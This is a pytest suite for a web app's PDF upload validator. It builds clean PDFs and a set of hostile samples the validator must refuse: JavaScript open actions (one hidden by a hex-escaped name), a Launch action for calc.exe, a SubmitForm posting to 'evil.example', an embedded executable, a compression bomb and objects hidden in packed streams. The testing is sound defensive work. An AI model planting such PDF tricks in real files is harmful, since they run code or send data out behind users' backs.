"""Whatever is called a PDF is opened and looked through; what does anything but show its pages is refused."""

import io
import zlib

import pytest
from pypdf import PdfWriter

from tests.vacancies.board import pdf
from webapp.domain.refusal import Refusal
from webapp.formats import pdf as papers
from webapp.formats.pdf_inside import verdict


def written(**how) -> bytes:
    """A PDF as a program writes it."""
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    for name, value in how.items():
        getattr(writer, name)(*value)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def packed(inside: bytes) -> bytes:
    """A PDF that hides an object in a packed stream, where no search for words finds it."""
    stream = zlib.compress(b"4 0 " + inside)
    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stream)
    out = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>\nendobj\n"
    second, out = len(out), out + b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
    third, out = len(out), out + b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    fifth, out = len(out), out + b"5 0 obj\n" + head + stream + b"\nendstream\nendobj\n"
    rows = [(0, 0, 255), (1, 9, 0), (1, second, 0), (1, third, 0), (2, 5, 0), (1, fifth, 0), (1, len(out), 0)]
    table = b"".join(bytes([kind]) + at.to_bytes(2, "big") + bytes([last]) for kind, at, last in rows)
    xref = b"6 0 obj\n<</Type/XRef/W[1 2 1]/Size 7/Root 1 0 R/Length %d>>stream\n" % len(table)
    return out + xref + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


PLAIN = (pdf(), pdf() + b"\r\n\x00", written(), packed(b"<</S/GoTo/D[3 0 R/Fit]>>"))


@pytest.mark.parametrize("content", PLAIN)
def test_plain_pages_are_welcome(content):
    assert verdict(content) == ""


def test_a_paper_is_opened_in_a_process_of_its_own():
    assert papers.ensure_plain(PLAIN[0], "document") is None


HOSTILE = {
    "empty": (b"", papers.BROKEN),
    "a picture": (b"\x89PNG\r\n\x1a\n" + b"x" * 200, papers.BROKEN),
    "a program behind a head": (b"MZ" + pdf(), papers.BROKEN),
    "an archive behind the end": (pdf() + b"PK\x03\x04" + b"x" * 40, papers.BROKEN),
    "a head alone": (b"%PDF-1.7\n%%EOF", papers.BROKEN),
    "rubbish between head and end": (b"%PDF-1.7\n" + b"\x00\xff<<" * 500 + b"%%EOF", papers.BROKEN),
    "cut off": (pdf()[:120], papers.BROKEN),
    "no pages": (pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0"), papers.BROKEN),
    "locked": (written(encrypt=("secret",)), papers.LOCKED),
    "a script": (pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert)>>"), papers.LIVELY),
    "a packed script": (packed(b"<</S/JavaScript/JS(app.alert)>>"), papers.LIVELY),
    "a script by another spelling": (packed(b"<</S/J#61vaScript/#4a#53(app.alert)>>"), papers.LIVELY),
    "a program to start": (pdf(b"<</S/Launch/F(calc.exe)>>"), papers.LIVELY),
    "a form that sends": (pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), papers.LIVELY),
    "a living form": (pdf(catalog=b"/AcroForm<</XFA[]>>"), papers.LIVELY),
    "a file inside": (written(add_attachment=("evil.exe", b"MZ")), papers.PACKED),
    "a packed file": (packed(b"<</Type/Filespec/EF<</F 3 0 R>>>>"), papers.PACKED),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_does_more_has_a_name(name):
    content, word = HOSTILE[name]
    assert (papers._first_look(content) or verdict(content)) == word


@pytest.mark.parametrize("name", ["locked", "a packed script", "an archive behind the end"])
def test_it_is_refused_at_its_field_with_a_way_out(name):
    content, word = HOSTILE[name]
    with pytest.raises(Refusal) as no:
        papers.ensure_plain(content, "document")
    assert (no.value.message, no.value.field) == (papers.SENTENCES[word], "document")


def test_a_bomb_in_its_own_tables_does_not_unfold():
    assert verdict(packed(b"<</A(" + b"x" * 50_000_000 + b")>>")) == papers.HEAVY


def test_deep_nesting_is_refused():
    assert verdict(packed(b"[" * 50_000 + b"]" * 50_000)) == papers.BROKEN


def test_a_file_made_to_be_slow_ends_with_the_patience_of_the_house(monkeypatch):
    monkeypatch.setattr(papers, "SECONDS", 0.01)
    with pytest.raises(Refusal) as no:
        papers.ensure_plain(PLAIN[0], "document")
    assert no.value.message == papers.SENTENCES[papers.HEAVY]
